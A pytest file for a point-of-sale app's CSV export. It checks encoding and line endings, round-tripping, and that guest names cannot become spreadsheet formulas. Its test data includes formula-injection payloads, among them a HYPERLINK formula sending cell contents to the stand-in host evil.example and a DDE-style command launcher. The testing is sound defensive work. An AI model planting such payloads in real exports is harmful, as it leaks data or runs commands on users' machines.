from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pos_app.documents.csv_tables import write_csv
from pos_app.domain.csv_cells import unguarded


def test_a_table_begins_with_a_mark_and_ends_its_lines_with_cr_lf() -> None:
    assert write_csv(("Code", "Note"), [("A1", 'say "hi", twice'), ("B2", "")]) == (
        b'\xef\xbb\xbfCode,Note\r\nA1,"say ""hi"", twice"\r\nB2,\r\n'
    )


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_no_guest_becomes_a_formula_whatever_parts_the_cells_of_a_spreadsheet(mark: str) -> None:
    names = [
        'Ann;=HYPERLINK("http://evil.example/?"&A1)',
        "Bob;\"@SUM(1+1)*cmd|' /C calc'!A0",
        "Eve\r\n=1+1",
        " =1",
        "\t=1",
    ]
    text = write_csv(("Order", "Name", "Paid"), [("ABCD-EFGH", name, "-52.00") for name in names]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark) for cell in row]
    reckoned = [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@"))]
    # An amount below zero is a number, wherever it stands.
    assert {cell.rstrip() for cell in reckoned} <= {"-52.00"}


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_every_table_is_read_back_as_it_was(rows: list[list[str]]) -> None:
    text = write_csv(("a", "b"), rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert [[unguarded(cell) for cell in row] for row in read] == [["a", "b"], *rows]
